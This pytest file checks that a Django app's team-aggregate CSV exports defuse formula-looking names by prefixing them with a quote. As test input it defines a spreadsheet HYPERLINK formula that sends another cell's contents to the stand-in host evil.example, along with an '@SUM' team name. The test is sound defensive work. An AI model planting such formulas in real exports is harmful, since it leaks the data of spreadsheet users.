"""Both team-aggregate CSVs (one team, all teams) neutralise formula-looking names."""

from __future__ import annotations

import csv
import io

import pytest

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?d="&E2,"Open")'


@pytest.mark.parametrize("one_team", [True, False], ids=["team", "all-teams"])
def test_aggregates_csv_neutralises_formula_names(
    client, lead, make_user, make_team, log, one_team
):
    member = make_user("mallory", display_name=EVIL)
    team = make_team(lead=lead, members=[member], name="@SUM(1+1)")
    log(member, minutes=90)
    client.force_login(lead)
    url = (
        f"/practice/teams/{team.pk}/aggregates.csv"
        if one_team
        else "/practice/teams/aggregates.csv"
    )
    response = client.get(url)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    members = [r for r in rows if r["scope"] == "member"]
    assert members and {r["member"] for r in members} == {"'" + EVIL}
    assert {r["team"] for r in rows} == {"'@SUM(1+1)"}
    assert "1.5" in {r["hours"] for r in rows}
